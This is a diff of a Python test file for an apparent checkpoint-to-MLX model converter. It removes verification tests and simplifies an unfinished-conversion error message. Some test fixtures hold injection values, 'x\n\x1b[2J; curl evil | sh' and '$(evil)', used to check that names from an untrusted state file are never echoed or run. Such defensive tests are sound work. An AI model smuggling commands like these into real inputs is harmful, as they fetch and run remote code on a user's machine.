@@ -5,7 +5,6 @@ import fcntl
 import json
 import math
 import os
-import shlex
 import shutil
 import signal
 import subprocess
@@ -131,7 +130,7 @@ def test_a_damaged_layer_is_made_again(tmp_path, source, whole, damage):
 
 def test_repairs_are_reported(tmp_path, source, whole, capsys):
     out = copy_of(whole, tmp_path)
-    arguments = ["--hf-path", str(source), "--mlx-path", str(out), "--verify"]
+    arguments = ["--hf-path", str(source), "--mlx-path", str(out)]
     assert main(arguments) == 0 and "damaged" not in capsys.readouterr().err
     for name in LARGE:
         (out / name).write_bytes(bytes((out / name).stat().st_size))
@@ -141,8 +140,7 @@ def test_repairs_are_reported(tmp_path, source, whole, capsys):
     assert tree(out) == tree(whole)
 
 
-def test_an_unfinished_conversion_says_how_to_finish_it(tmp_path, source, whole, monkeypatch, capsys):
-    """The message has the command, which works in any directory."""
+def test_an_unfinished_conversion_says_what_it_converts(tmp_path, source, whole, monkeypatch, capsys):
     out = tmp_path / "my model"
 
     def stop(done, total, name):
@@ -153,13 +151,9 @@ def test_an_unfinished_conversion_says_how_to_finish_it(tmp_path, source, whole,
     with pytest.raises(Stopped):
         convert(source.name, out, q_bits=8, requantize=True, progress=stop)
     assert generate(["--model", str(out)]) == 1
-    err = capsys.readouterr().err
-    assert err.startswith(
-        f"error: {out} holds an unfinished conversion; to finish it run: python -m moeflux_mlx.convert"
+    assert capsys.readouterr().err == (
+        f"error: {out} holds an unfinished conversion of {source}; run the command that began it again\n"
     )
-    monkeypatch.chdir(tmp_path)
-    assert main(shlex.split(err.partition("run: ")[2])[3:]) == 0
-    assert "kept 1 file of" in capsys.readouterr().err or len(tree(out)) == len(tree(whole))
     with pytest.raises(ModelFileError, match="begun with other options"):
         convert(source, out)
 
@@ -167,8 +161,8 @@ def test_an_unfinished_conversion_says_how_to_finish_it(tmp_path, source, whole,
 @pytest.mark.parametrize(
     "state",
     [
-        {"origin": {"hf_path": "x\n\x1b[2J; curl evil | sh", "revision": 3}, "options": {}},
-        {"origin": "x", "options": None},
+        {"origin": {"hf_path": "x\n\x1b[2J; curl evil | sh"}},
+        {"origin": "x"},
         {"origin": {"hf_path": 3}},
         {},
     ],
@@ -179,42 +173,12 @@ def test_names_in_a_foreign_state_file_are_not_used(tmp_path, state, capsys):
     assert capsys.readouterr().err == (
         f"error: {tmp_path} holds an unfinished conversion; run the command that began it again\n"
     )
-    (tmp_path / STATE).write_text(json.dumps({"origin": {"hf_path": "$(evil)", "revision": "a b"}, "options": {}}))
-    assert generate(["--model", str(tmp_path)]) == 1
-    assert "--hf-path '$(evil)' --mlx-path" in (err := capsys.readouterr().err) and "--revision 'a b'" in err
 
 
-@pytest.mark.parametrize("name", [LARGE[0], LARGE[3]])
-@pytest.mark.parametrize("at", [0, -1])
-def test_verify_finds_one_flipped_bit(tmp_path, source, whole, name, at):
-    out, sound = copy_of(whole, tmp_path), (whole / name).read_bytes()
-    damaged = bytearray(sound)
-    damaged[at] ^= 0x10
-
-    def damage(done, total, what):
-        if 2 * done == total:  # everything is written or kept, and nothing is verified yet
-            (out / name).write_bytes(damaged)
-
-    with pytest.raises(ModelFileError, match=f"{name} differs from the checkpoint at byte {at % len(sound)};"):
-        convert(source, out, verify=True, progress=damage)
-
-
-@pytest.mark.parametrize(("change", "at"), [(b"x", "is longer than"), (None, "differs from the checkpoint at byte")])
-def test_verify_finds_another_length(tmp_path, source, whole, change, at):
-    out, sound = copy_of(whole, tmp_path), (whole / LARGE[0]).read_bytes()
-
-    def damage(done, total, what):
-        if 2 * done == total:
-            (out / LARGE[0]).write_bytes(sound + change if change else sound[:-1])
-
-    with pytest.raises(ModelFileError, match=f"{at} {len(sound) - (change is None)}"):
-        convert(source, out, verify=True, progress=damage)
-
-
-def test_verify_accepts_a_sound_model(tmp_path, source, whole):
+def test_a_sound_model_is_kept(tmp_path, source, whole):
     seen = []
-    report = convert(source, copy_of(whole, tmp_path), verify=True, progress=lambda *step: seen.append(step))
-    assert report.verified and len(report.kept) == 4
+    report = convert(source, copy_of(whole, tmp_path), progress=lambda *step: seen.append(step))
+    assert len(report.kept) == 4 and not report.repaired
     assert all(a[0] <= b[0] for a, b in zip(seen, seen[1:], strict=False))
     assert seen[-1][0] == seen[-1][1]
 
